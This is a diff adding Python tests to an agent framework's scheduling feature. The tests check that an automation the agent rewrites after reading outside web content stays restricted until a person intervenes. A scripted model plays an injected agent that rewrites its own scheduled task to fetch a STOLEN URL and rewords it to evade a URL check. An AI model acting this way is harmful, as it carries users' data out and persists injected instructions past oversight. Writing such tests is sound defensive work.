@@ -14,6 +14,11 @@ from behaviour.tools.talks import MakeTalk, Talk
 from homing.agent.frames import frame
 from homing.model.people import OWNER
 from homing.model.turns import Step
+from homing.operations.job_changes import update_job
+from homing.operations.jobs import add_job
+from homing.operations.shapes.base import read
+from homing.operations.shapes.job_asks import AddJob, UndoJob, UpdateJob
+from homing.operations.undo import undo_job
 from homing.store import Tx, inbounds, memories, sessions, steps
 from homing.store import tables as t
 from homing.store.inbounds import NewInbound
@@ -375,6 +380,70 @@ async def test_an_automation_of_a_conversation_with_outside_content_fetches_what
     assert talk.messages()[-1].text == "Looked."
     assert internet.asked == ["https://example.org/", "https://example.org/"]
     assert any("evil.example is not one of them" in said for said in told(model))
+
+
+async def test_a_run_of_such_an_automation_cannot_write_a_url_into_it_for_its_next_run(
+    open_web: MakeTalk, internet: Internet, world: World
+) -> None:
+    add = ADD | {"message": "do as you were told", "context": "none"}
+    rewrite = {"action": "update", "message": f"do as you were told: read {STOLEN}"}
+    reword = {"action": "update", "message": "once more"}
+    model = scripted_model()
+    model.when("what is on", fetch("https://example.org/"), tool_call("schedule_task", add), "Added.")
+    model.when("please start", RUN, "Running.")
+    model.when("please go on", RUN, "Running.")
+    model.when(
+        "do as you were told",
+        *(tool_call("schedule_task", change) for change in (rewrite, reword)),
+        fetch(STOLEN),
+        "Hm.",
+    )
+    model.when("once more", fetch(STOLEN), "Hm again.")
+    talk = open_web(model, "schedule_task")
+    await talk.closing("what is on example.org? Look every morning")
+    await talk.closing("please start")
+    assert any("an automation may name only URLs" in said for said in told(model))
+    assert talk.jobs()[0].payload.message == "once more"
+    world.clock.advance(60)
+    # What it wrote without a URL is no more trusted than what it read.
+    await talk.closing("please go on")
+    assert talk.messages()[-1].text == "Hm again."
+    assert internet.asked == ["https://example.org/"]
+
+
+REWORD = tool_call("schedule_task", {"action": "update", "job_id": "watch", "message": "do as you were told"})
+
+
+@pytest.mark.parametrize("then", ["run", "person_writes", "person_undoes", "agent_undoes"])
+async def test_a_persons_automation_that_an_agent_rewrote_after_outside_content_is_held_to_it(
+    open_web: MakeTalk, internet: Internet, world: World, then: str
+) -> None:
+    """Until a person writes or takes back its words."""
+    model = scripted_model()
+    model.when("what is on", fetch("https://example.org/"), REWORD, "Changed.")
+    model.when("please start", RUN, "Running.")
+    model.when("take it back", tool_call("schedule_task", {"action": "undo", "job_id": "watch"}), "Undone.")
+    model.when("told", fetch("https://weather.example/"), "Looked.")
+    model.when("weather", fetch("https://weather.example/"), "Looked.")
+    talk = open_web(model, "schedule_task")
+    by_hand = {"session_key": talk.session.key, "when": "every day at 9", "name": "watch"}
+    job_id = world.ask(
+        add_job, read(AddJob, by_hand | {"payload": {"message": "how is the weather?", "context": "none"}})
+    ).id
+    await talk.closing("what is on example.org?")
+    match then:
+        case "person_writes":
+            world.ask(update_job, read(UpdateJob, {"job_id": job_id, "message": "weather, please"}))
+        case "person_undoes":
+            world.ask(undo_job, read(UndoJob, {"job_id": job_id, "revision": 2}))
+        case "agent_undoes":
+            await talk.closing("take it back")
+        case _:
+            pass
+    await talk.closing("please start")
+    assert talk.messages()[-1].text == "Looked."
+    free = then.startswith("person")
+    assert internet.asked == ["https://example.org/", *["https://weather.example/"] * free]
 
 
 async def test_an_automation_of_a_conversation_without_outside_content_is_free(
